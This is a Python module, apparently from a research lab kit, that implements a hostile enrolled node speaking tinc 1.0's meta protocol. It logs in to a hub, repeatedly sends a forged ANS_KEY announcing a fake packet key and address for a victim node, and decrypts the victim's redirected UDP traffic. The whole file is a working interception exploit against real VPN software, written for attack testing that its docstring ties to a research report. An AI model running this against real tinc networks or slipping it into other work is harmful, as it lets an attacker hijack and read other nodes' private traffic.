"""A hostile enrolled node speaking tinc 1.0's meta protocol to a hub itself (for the attack
tests; see docs/research/tinc-several-hubs/REPORT.md section 4).

It logs in to the hub with its own, enrolled identity and key, then sends a forged
``ANS_KEY VICTIM HUB <key> ... <ADDRESS> <PORT>`` once a second: "VICTIM's packet key, and
VICTIM's UDP address is ADDRESS:PORT". It counts the UDP datagrams that arrive for VICTIM at
its own UDP port and how many of them decrypt, with the key it made up, to an IPv4 packet.
Run inside the hostile node's namespace:

    python -m labkit.hostile_tinc NAME KEY_FILE HUB_PUBLIC_KEY_FILE HUB_NAME VICTIM \\
        HUB_ADDRESS ANNOUNCED_ADDRESS SECONDS

and it prints one JSON line: {"datagrams": N, "decrypted": [[src, dst, proto], ...]}.
The announced address is what the hub should send to (behind a NAT: the router's public
address; the UDP port is kept by the masquerade, and a first datagram opens the mapping).
"""

import json
import os
import socket
import sys
import time
from typing import List, Optional

from cryptography.hazmat.primitives import hashes, hmac, serialization
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

TINC_PORT = 655
UDP_PORT = 6555
# OpenSSL NIDs as tinc 1.0 sends them
NID_AES256_CFB, NID_AES256_CBC, NID_SHA256 = 429, 427, 672
ID, METAKEY, CHALLENGE, CHAL_REPLY, ACK, PING, PONG, ANS_KEY = 0, 1, 2, 3, 4, 8, 9, 16


class MetaConnection:
    """The client side of a tinc 1.0 meta connection (RSA metakeys, AES-256-CFB streams)."""

    def __init__(self, name: str, private_key_file: str, hub_public_key_file: str,
                 hub_address: str) -> None:
        with open(private_key_file, "rb") as handle:
            self.private = serialization.load_pem_private_key(handle.read(), None)
        with open(hub_public_key_file, "rb") as handle:
            self.hub_public = serialization.load_pem_public_key(handle.read())
        self.length = (self.hub_public.public_numbers().n.bit_length() + 7) // 8
        self.sock = socket.create_connection((hub_address, TINC_PORT), timeout=5)
        self.encryptor = self.decryptor = None
        self.buffer = b""
        self._login(name)

    def send(self, line: str) -> None:
        data = (line + "\n").encode()
        self.sock.sendall(self.encryptor.update(data) if self.encryptor else data)

    def _feed(self, chunk: bytes) -> None:
        self.buffer += self.decryptor.update(chunk) if self.decryptor else chunk

    def lines(self) -> List[str]:
        out = []
        while b"\n" in self.buffer:
            line, self.buffer = self.buffer.split(b"\n", 1)
            out.append(line.decode(errors="replace"))
        return out

    def recv_line(self) -> str:
        while b"\n" not in self.buffer:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("the hub closed the meta connection")
            self._feed(chunk)
        line, self.buffer = self.buffer.split(b"\n", 1)
        return line.decode(errors="replace")

    def _login(self, name: str) -> None:
        self.send("%d %s 17" % (ID, name))
        self.recv_line()  # the hub's ID
        metakey = self.recv_line().split()
        n = self.private.private_numbers()
        hub_key = pow(int(metakey[5], 16), n.d, n.public_numbers.n).to_bytes(self.length, "big")
        # the hub's metakey opens our inbound stream; what is buffered already is ciphertext
        self.decryptor = Cipher(algorithms.AES(hub_key[-32:]),
                                modes.CFB(hub_key[-48:-32])).decryptor()
        self.buffer = self.decryptor.update(self.buffer)
        ours = bytearray(os.urandom(self.length))
        ours[0] &= 0x7F
        hub_n = self.hub_public.public_numbers()
        sealed = pow(int.from_bytes(bytes(ours), "big"), hub_n.e, hub_n.n)
        self.send("%d %d %d 0 0 %s" % (METAKEY, NID_AES256_CFB, NID_SHA256,
                                        sealed.to_bytes(self.length, "big").hex()))
        self.encryptor = Cipher(algorithms.AES(bytes(ours[-32:])),
                                modes.CFB(bytes(ours[-48:-32]))).encryptor()
        self.send("%d %s" % (CHALLENGE, os.urandom(self.length).hex()))
        while True:
            parts = self.recv_line().split()
            if parts[0] == str(CHALLENGE):
                digest = hashes.Hash(hashes.SHA256())
                digest.update(bytes.fromhex(parts[1]))
                self.send("%d %s" % (CHAL_REPLY, digest.finalize().hex()))
            elif parts[0] == str(CHAL_REPLY):
                self.send("%d %d 10 0" % (ACK, TINC_PORT))
            elif parts[0] == str(ACK):
                return

    def answer_pings(self) -> None:
        """Read what arrived (without waiting long) and answer PINGs, so the hub keeps us."""
        self.sock.settimeout(0.05)
        try:
            chunk = self.sock.recv(65536)
        except socket.timeout:
            return
        if not chunk:
            raise ConnectionError("the hub closed the meta connection")
        self._feed(chunk)
        for line in self.lines():
            if line.split()[:1] == [str(PING)]:
                self.send(str(PONG))


def decrypt_ipv4(key: bytes, datagram: bytes) -> Optional[List[object]]:
    """[source, destination, protocol] of the IPv4 packet in a tinc 1.0 UDP datagram made with
    `key` (AES-256-CBC + 4 bytes of HMAC-SHA256), or None when it is not one."""
    body, mac = datagram[:-4], datagram[-4:]
    check = hmac.HMAC(key, hashes.SHA256())
    check.update(body)
    if check.finalize()[:4] != mac or len(body) % 16:
        return None
    decryptor = Cipher(algorithms.AES(key[:32]), modes.CBC(key[32:])).decryptor()
    plain = decryptor.update(body) + decryptor.finalize()
    packet = plain[4 + 14:]  # sequence number, Ethernet header
    if len(packet) < 20 or packet[0] >> 4 != 4:
        return None
    return [socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20]), packet[9]]


def main(argv: List[str]) -> int:
    name, key_file, hub_key_file, hub_name, victim, hub_address, announced, seconds = argv
    meta = MetaConnection(name, key_file, hub_key_file, hub_address)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", UDP_PORT))
    udp.settimeout(0.1)
    udp.sendto(b"\0" * 32, (hub_address, TINC_PORT))  # opens a NAT mapping for the port
    key = os.urandom(48)
    forged = "%d %s %s %s %d %d 4 0 %s %d" % (ANS_KEY, victim, hub_name, key.hex(),
                                              NID_AES256_CBC, NID_SHA256, announced, UDP_PORT)
    datagrams, decrypted = 0, []
    end = time.monotonic() + float(seconds)
    last = 0.0
    while time.monotonic() < end:
        if time.monotonic() - last >= 1.0:
            meta.send(forged)
            last = time.monotonic()
        meta.answer_pings()
        try:
            data, _ = udp.recvfrom(65536)
        except socket.timeout:
            continue
        datagrams += 1
        packet = decrypt_ipv4(key, data)
        if packet:
            decrypted.append(packet)
    print(json.dumps({"datagrams": datagrams, "decrypted": decrypted}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
